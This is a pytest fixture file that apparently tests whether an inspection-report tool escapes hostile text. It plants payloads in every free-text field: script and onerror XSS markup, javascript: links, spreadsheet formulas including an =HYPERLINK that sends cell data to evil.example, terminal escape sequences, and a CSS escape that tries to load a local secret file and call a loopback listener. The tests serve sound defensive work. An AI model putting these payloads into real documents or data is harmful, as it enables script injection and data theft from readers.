"""Hostile text for every output, and a listener on 127.0.0.1 that must hear nothing."""

from __future__ import annotations

import http.server
import json
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from yjinspect.datafile import load_data_file

from ..conftest import EXAMPLES

# What a results file, an upload or a typed note can carry into an output.
MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'
LINK = "[click here](javascript:alert(1)) <javascript:alert(2)>"
FORMULAS = ('=HYPERLINK("http://evil.example/?q="&A1,"x")', "+1+1", "-1+2", "@SUM(A1)",
            "\t=1+1", "\r=1+1")  # fmt: skip
# Terminal escapes: an OSC 8 hyperlink and "clear the screen", for `cat` or a terminal pager.
TERMINAL = "\x1b]8;;http://evil.example\x07press here\x1b]8;;\x07\x1b[2J"
SECRET_MARK = "LOCALFILESECRET"


@dataclass
class Listener:
    """A web server on 127.0.0.1 that records every request it receives."""

    port: int
    heard: list[str] = field(default_factory=list)


@pytest.fixture
def listener() -> Iterator[Listener]:
    heard: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/svg+xml")
            self.end_headers()
            self.wfile.write(b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield Listener(server.server_address[1], heard)
    server.shutdown()
    server.server_close()


def css_escape(port: int, secret: Path) -> str:
    """A service name that leaves the running header's CSS string with a carriage return (a form
    feed works the same), then asks for a URL and a local file."""
    return (
        "Evil Service\r} } html { background: url(http://127.0.0.1:"
        f"{port}/from-css) }} body {{ background: url({secret.as_uri()}) }} "
        '@page { @top-left { content: "\f} } p { background: url(http://127.0.0.1:'
        f'{port}/from-form-feed) }} @page {{ @top-left {{ content: "'
    )


_OPENED: list[str] = []
_WATCHING: set[str] = set()


def _record_opens(event: str, args: tuple) -> None:
    if event == "open" and str(args[0]) in _WATCHING:
        _OPENED.append(str(args[0]))


sys.addaudithook(_record_opens)  # audit hooks stay for the process; this one only records


@pytest.fixture
def secret_file(tmp_path: Path) -> Iterator[Path]:
    """A local file that must never end up inside a report."""
    path = tmp_path / "secret.svg"
    path.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="60">'
        f'<text x="5" y="40" font-size="30">{SECRET_MARK}</text></svg>',
        encoding="utf-8",
    )
    _WATCHING.add(str(path))
    yield path
    _WATCHING.discard(str(path))


@pytest.fixture
def opened(secret_file: Path) -> list[str]:
    """The local files opened, of those watched (the secret file)."""
    _OPENED.clear()
    return _OPENED


@pytest.fixture
def hostile_results(tmp_path: Path, listener: Listener, secret_file: Path) -> Path:
    """The Essex 2018 results file with hostile text in every free-text field."""
    data = load_data_file(EXAMPLES / "essex-2018.yaml").data
    data["service"]["name"] = css_escape(listener.port, secret_file)
    data["foreword"] = {"text": f"{MARKUP}\n\n{LINK}", "signed": MARKUP}
    data["key_findings"]["1"].append(f"{LINK} {MARKUP}")
    data["findings"]["3.4"]["strengths"] = [MARKUP, LINK]
    data["recommendations"][0]["addressee"] = f"{MARKUP} {LINK}"
    data["recommendations"][1]["text"] = f"{MARKUP} {LINK}"
    data["domain_one"]["other_activity"] = LINK
    data["caseload"] = {"ethnicity": {MARKUP: 40, "white": 60}}  # categories reach the chart
    data["press_release"] = {
        "headline": f"{MARKUP} {LINK}",
        "quotes": [{"speaker": MARKUP, "text": f"{LINK} {TERMINAL}"}],
        "media_contact": LINK,
        "report_url": "javascript:alert(3)",
    }
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data, default=str), encoding="utf-8")
    return path


@pytest.fixture
def demo(db) -> dict:
    """The workspace's demo data (the Essex 2018 inspection), one user per role."""
    from yjinspect.web.workspace.demo import build_demo
    from yjinspect.web.workspace.models import Inspection

    passwords = build_demo()
    return {"passwords": passwords, "essex": Inspection.objects.get(framework_id="hmip-yos-2018")}


@pytest.fixture
def as_user(client, django_user_model):
    def login(name: str):
        client.force_login(django_user_model.objects.get(username=name))
        return client

    return login
